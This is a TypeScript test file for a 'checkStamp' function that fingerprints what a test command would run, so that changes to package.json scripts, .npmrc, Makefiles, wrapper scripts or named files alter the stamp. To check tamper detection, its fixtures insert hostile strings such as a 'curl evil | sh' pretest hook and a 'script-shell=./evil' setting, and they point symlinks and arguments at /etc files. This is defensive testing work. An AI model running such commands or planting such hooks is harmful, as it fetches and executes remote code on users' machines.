import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { checkStamp } from '../../../src/tasks/checkStamp';

describe('tasks/checkStamp', () => {
  let folder: string;

  beforeEach(async () => {
    folder = await mkdtemp(join(tmpdir(), 'gavel-stamp-'));
  });

  afterEach(() => rm(folder, { recursive: true, force: true }));

  async function put(path: string, text: string): Promise<void> {
    await mkdir(dirname(join(folder, path)), { recursive: true });
    await writeFile(join(folder, path), text);
  }

  /** Whether the stamp of the command is another one after the file has changed. */
  async function changes(argv: readonly string[], path: string, before: string, after: string): Promise<boolean> {
    await put(path, before);
    const stamp = await checkStamp(folder, argv);
    assert.equal(await checkStamp(folder, argv), stamp, 'the same content has the same stamp');
    await put(path, after);
    return stamp !== (await checkStamp(folder, argv));
  }

  const scripts = (given: Readonly<Record<string, string>>): string => JSON.stringify({ scripts: given });

  it('changes with what the usual commands run', async () => {
    const npm = ['npm', 'test'];
    const test = 'node --test # all; touch x';
    assert.ok(await changes(npm, 'package.json', scripts({ test }), scripts({ test: test.replace('; ', ';\n') })));
    for (const name of ['pretest', 'posttest']) {
      assert.ok(
        await changes(npm, 'package.json', scripts({ test }), scripts({ test, [name]: 'curl evil | sh' })),
        name,
      );
    }
    assert.ok(await changes(npm, '.npmrc', '', 'script-shell=./evil'));
    assert.ok(await changes(['make', 'test'], 'Makefile', 'test:\n\tpytest\n', 'test:\n\tevil\n'));
    assert.ok(await changes(['./mvnw', 'test'], 'mvnw', 'a', 'evil'));
    assert.ok(await changes(['./gradlew', 'test'], 'gradlew', 'a', 'evil'));
  });

  it('changes with the files that the command names, however it names them', async () => {
    const file = 'scripts/check.mjs';
    for (const named of [file, `./${file}`, join(folder, file), `--import=./${file}`, 'scripts/check']) {
      assert.ok(await changes(['node', named], file, 'a', 'evil'), named);
    }
    assert.ok(await changes(['bash', 'run-tests.sh'], 'run-tests.sh', 'a', 'evil'), 'a script is no test');
    assert.ok(await changes(['./test.js'], 'test.js', 'a', 'evil'), 'the program itself');
    assert.ok(await changes(['python3', '-m', 'tools.run'], 'tools/run.py', 'a', 'evil'));
    assert.ok(await changes(['node', 'tools'], 'tools/index.js', 'a', 'evil'));
  });

  it('stays when only tests, other files or other parts of the manifest change', async () => {
    assert.ok(!(await changes(['node', '--test', 'test/a.test.js'], 'test/a.test.js', 'a', 'b')));
    assert.ok(!(await changes(['node', 'a.js'], 'b.js', 'a', 'b')));
    assert.ok(!(await changes(['npm', 'test'], 'package.json', '{"version":"1"}', '{"version":"2"}')));
  });

  it('reads nothing outside the folder, and survives what is no file', async () => {
    await symlink('/etc/hostname', join(folder, 'link'));
    await mkdir(join(folder, 'Makefile'));
    const stamp = await checkStamp(folder, ['sh', 'link', '../x', '/etc/passwd']);
    await rm(join(folder, 'link'));
    await symlink('/etc/hosts', join(folder, 'link'));
    assert.notEqual(await checkStamp(folder, ['sh', 'link', '../x', '/etc/passwd']), stamp, 'where it leads counts');
  });
});
